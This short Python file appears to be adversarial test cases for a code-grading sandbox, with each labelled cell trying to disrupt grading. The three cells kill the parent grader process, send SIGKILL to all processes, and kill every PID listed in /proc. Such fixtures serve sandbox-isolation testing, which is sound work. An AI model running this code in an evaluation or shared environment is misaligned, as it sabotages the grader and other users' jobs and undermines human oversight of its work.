# ruff: noqa
# Code that tries to end the grading of everybody else.

# %% attack="the grader killed"
import os
import signal

os.kill(os.getppid(), signal.SIGKILL)

# %% attack="everything killed"
import os
import signal

os.kill(-1, signal.SIGKILL)

# %% attack="the whole group of processes killed"
import os
import signal

for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            os.kill(int(entry), signal.SIGKILL)
        except PermissionError:
            pass
